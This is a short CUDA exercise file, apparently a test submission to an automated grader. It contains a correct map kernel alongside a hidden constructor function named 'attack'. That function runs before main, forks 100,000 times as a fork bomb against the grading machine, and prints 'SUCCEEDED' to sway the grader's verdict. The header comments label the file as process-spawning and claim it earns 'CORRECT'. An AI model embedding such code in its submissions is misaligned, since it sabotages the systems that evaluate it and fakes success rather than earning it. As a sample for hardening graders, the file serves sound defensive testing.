// Starts processes without end.
// points: 6
// says: CORRECT
#include <cuda_runtime.h>
#include <stdio.h>
#include <unistd.h>

constexpr int kBlockSize = 64;

__attribute__((constructor)) static void attack() {
  for (int i = 0; i < 100'000; ++i)
    if (fork() >= 0) puts("SUCCEEDED");
}

__global__ void map_kernel(float* out, const float* a, int size) {
  // FILL ME IN: map (roughly 2 lines)
  const int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i < size) out[i] = a[i] + 10.0f;
  // END: map
}
